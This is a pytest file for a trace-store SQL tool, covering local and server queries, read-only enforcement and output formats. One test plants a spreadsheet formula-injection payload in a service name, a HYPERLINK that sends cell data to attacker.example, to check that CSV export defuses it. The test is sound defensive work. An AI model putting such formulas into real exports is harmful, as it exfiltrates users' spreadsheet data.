"""SQL over the store: `otel-rl sql` and `otel_rl.query` with and without a running server."""

import json
import subprocess
import time

import duckdb
import httpx
import polars as pl
import pytest
from from_scratch import differences
from otel_rl_server import OTEL_RL
from rollout_traffic import rollout_requests
from test_collector_http import PROTOBUF, post, spans_request
from typer.testing import CliRunner

from otel_rl.cli import app
from otel_rl.collector.ingest import ingest_traces
from otel_rl.query import SEEN_THROUGH_HEADER, QueryError, query
from otel_rl.store import Store
from otel_rl.store.definitions import NORMALIZED


@pytest.fixture(scope="module")
def closed_db(tmp_path_factory) -> tuple:
    """A DuckDB file with 3 spans of one trace, no server holding it."""
    db = tmp_path_factory.mktemp("query") / "otel_rl.duckdb"
    request, trace_id = spans_request(3)
    with Store(db) as store:
        ingest_traces(store, request)
    return db, trace_id


def test_query_reads_the_file_when_no_server_holds_it(closed_db) -> None:
    db, trace_id = closed_db

    frame = query(f"SELECT name FROM spans WHERE trace_id = '{trace_id}' ORDER BY name", db=db)

    assert isinstance(frame, pl.DataFrame)
    assert frame["name"].to_list() == ["span 0", "span 1", "span 2"]


def test_query_goes_through_the_server_while_it_holds_the_file(otel_rl_server, monkeypatch) -> None:
    request, trace_id = spans_request(2)
    assert post(otel_rl_server, "/v1/traces", request.SerializeToString(), PROTOBUF).status_code == 200
    monkeypatch.setenv("OTEL_RL_SERVER", otel_rl_server.http_url)
    monkeypatch.setenv("OTEL_RL_TOKEN", otel_rl_server.token)

    frame = query(f"SELECT count(*) AS n FROM spans WHERE trace_id = '{trace_id}'", db=otel_rl_server.db)

    assert frame.to_dicts() == [{"n": 2}]


def test_query_refuses_writes_locally_and_through_the_server(otel_rl_server, closed_db) -> None:
    db, _ = closed_db
    with pytest.raises(QueryError, match="only read queries are allowed"):
        query("DELETE FROM spans", db=db)
    with pytest.raises(QueryError, match="400: query refused: only read queries are allowed"):
        query("DROP TABLE spans", server=otel_rl_server.http_url, token=otel_rl_server.token)
    with pytest.raises(QueryError, match="401"):
        query("SELECT 1", server=otel_rl_server.http_url, token="wrong")

    assert query("SELECT count(*) AS n FROM spans", db=db).to_dicts() == [{"n": 3}]


def test_the_query_endpoint_answers_json_when_asked(otel_rl_server) -> None:
    response = httpx.post(
        f"{otel_rl_server.http_url}/v1/query",
        json={"sql": "SELECT 42 AS answer, [1, 2] AS ids"},
        headers={**otel_rl_server.auth, "Accept": "application/json"},
    )

    assert response.status_code == 200
    assert response.json() == [{"answer": 42, "ids": [1, 2]}]


def test_an_answer_names_the_commit_it_saw_through_and_a_read_may_wait_for_that_one(otel_rl_server) -> None:
    from otel_rl.train.server_client import ServerClient

    request, trace_id = spans_request(2)
    assert post(otel_rl_server, "/v1/traces", request.SerializeToString(), PROTOBUF).status_code == 200
    client = ServerClient(otel_rl_server.http_url, otel_rl_server.token)
    try:
        sql = f"SELECT max(commit_seq) AS c FROM spans WHERE trace_id = '{trace_id}'"
        headers = {**otel_rl_server.auth, "Accept": "application/json"}
        raw = httpx.post(f"{otel_rl_server.http_url}/v1/query", json={"sql": sql}, headers=headers)
        seen = int(raw.headers[SEEN_THROUGH_HEADER])
        assert seen >= raw.json()[0]["c"] > 0  # no row the read saw was written after the commit it names
        normalized = client.query(
            f"SELECT count(*) AS n FROM span_identity WHERE trace_id = '{trace_id}'", after_commit=seen
        )
        assert normalized["n"].to_list() == [2]  # the normalized rows of what the raw read saw
        ahead = httpx.post(
            f"{otel_rl_server.http_url}/v1/query",
            json={"sql": "SELECT 1", "after_commit": seen + 10**6},
            headers=otel_rl_server.auth,
        )
        assert ahead.status_code == 400 and "last commit is" in ahead.json()["detail"]
    finally:
        client.close()


@pytest.mark.parametrize("output_format", ["csv", "json", "table"])
def test_otel_rl_sql_prints_each_format_from_a_file(closed_db, output_format) -> None:
    db, trace_id = closed_db
    sql = f"SELECT name, [1, 2] AS ids FROM spans WHERE trace_id = '{trace_id}' ORDER BY name LIMIT 2"

    result = CliRunner().invoke(app, ["sql", sql, "--db", str(db), "--format", output_format])

    assert result.exit_code == 0, result.output
    if output_format == "csv":
        assert result.output.splitlines() == ["name,ids", 'span 0,"[1, 2]"', 'span 1,"[1, 2]"']
    elif output_format == "json":
        assert json.loads(result.output) == [
            {"name": "span 0", "ids": [1, 2]},
            {"name": "span 1", "ids": [1, 2]},
        ]
    else:
        assert "span 0" in result.output and "[1, 2]" in result.output and "2 row(s)" in result.output


def test_otel_rl_sql_csv_writes_a_harness_s_formula_as_text(tmp_path) -> None:
    db = tmp_path / "formula.duckdb"
    request, _ = spans_request(1)
    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'
    request.resource_spans[0].resource.attributes.add(key="service.name").value.string_value = formula
    with Store(db) as store:
        ingest_traces(store, request)
    sql = "SELECT resource_attributes->>'service.name' AS service, -1.5 AS delta, name FROM spans"
    args = [str(OTEL_RL), "sql", sql, "--db", str(db), "--format", "csv"]

    printed = subprocess.run(args, capture_output=True, text=True, timeout=60)
    written = subprocess.run([*args, "-o", str(tmp_path / "out.csv")], capture_output=True, timeout=60)

    assert printed.returncode == 0 and written.returncode == 0, printed.stderr
    expected = [
        "service,delta,name",
        '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""open"")",-1.5,span 0',
    ]
    assert printed.stdout.splitlines() == expected
    assert (tmp_path / "out.csv").read_text().splitlines() == expected


def test_otel_rl_sql_writes_parquet_to_a_file(closed_db, tmp_path) -> None:
    db, _ = closed_db
    out = tmp_path / "spans.parquet"

    result = CliRunner().invoke(
        app, ["sql", "SELECT * FROM spans", "--db", str(db), "--format", "parquet", "-o", str(out)]
    )

    assert result.exit_code == 0, result.output
    assert pl.read_parquet(out).height == 3


def test_otel_rl_sql_command_works_against_a_running_server(otel_rl_server) -> None:
    request, trace_id = spans_request(1)
    assert post(otel_rl_server, "/v1/traces", request.SerializeToString(), PROTOBUF).status_code == 200
    sql = f"SELECT name FROM spans WHERE trace_id = '{trace_id}'"
    args = [str(OTEL_RL), "sql", sql, "--server", otel_rl_server.http_url, "--token", otel_rl_server.token]

    done = subprocess.run([*args, "--format", "csv"], capture_output=True, text=True, timeout=60)
    refused = subprocess.run(
        [str(OTEL_RL), "sql", "DELETE FROM spans", "--db", str(otel_rl_server.db)],
        capture_output=True,
        text=True,
        timeout=60,
        env={"OTEL_RL_SERVER": otel_rl_server.http_url, "OTEL_RL_TOKEN": otel_rl_server.token, "PATH": ""},
    )

    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["name", "span 0"]
    assert refused.returncode == 1
    assert "only read queries are allowed" in refused.stderr


def test_otel_rl_sql_normalizes_what_a_stopped_server_left_before_reading_the_file(tmp_path) -> None:
    db = tmp_path / "otel_rl.duckdb"
    start = time.time_ns()
    with Store(db) as store:
        ingest_traces(store, rollout_requests("r-0", start)[0])
    # Commits a server wrote and never normalized (it was killed): raw rows of a later commit.
    con = duckdb.connect(str(db))
    con.execute(
        "INSERT INTO spans SELECT * REPLACE (replace(attributes::VARCHAR, 'r-0', 'r-1')::JSON AS attributes,"
        " replace(rollout_id, 'r-0', 'r-1') AS rollout_id, md5(trace_id) AS trace_id,"
        " commit_seq + 100 AS commit_seq) FROM spans"
    )
    con.close()

    sql = "SELECT rollout_id, n_calls FROM rollouts ORDER BY 1"
    result = CliRunner().invoke(app, ["sql", sql, "--db", str(db), "--format", "json"])

    assert result.exit_code == 0, result.output
    assert "normalizing 100 commit(s) first" in result.stderr
    assert json.loads(result.stdout) == [
        {"rollout_id": "r-0", "n_calls": 2},
        {"rollout_id": "r-1", "n_calls": 2},
    ]
    assert differences(db) == {name: (0, 0) for name in NORMALIZED}
